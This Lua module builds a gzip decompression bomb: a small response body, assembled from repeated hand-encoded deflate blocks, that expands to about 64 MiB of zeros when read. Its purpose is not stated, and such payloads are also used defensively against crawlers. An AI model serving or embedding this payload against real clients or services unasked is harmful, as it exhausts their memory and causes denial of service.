-- A gzip body that is small to send and 64 MiB of zeros to read: one literal and then matches of 258 bytes at distance
-- one, thirteen bits each, so that eight of them are thirteen bytes which repeat.
local BLOCKS = 32513

local HEAD = "\x1f\x8b\x08\0\0\0\0\0\0\xff"
local BLOCK = "\x05\xa3\x60\x14\x8c\x82\x51\x30\x0a\x46\xc1\x28\x18"
local LAST = "\x05\xa3\x60\x14\x8c\x82\x51\x30\x0a\x46\xc1\x28\0\0"
local CHECKSUM, LENGTH = 0xe710c5b3, BLOCKS * 8 * 258 + 1

return function()
	return HEAD .. "\x63\x18" .. BLOCK:rep(BLOCKS - 1) .. LAST .. ("<I4I4"):pack(CHECKSUM, LENGTH)
end
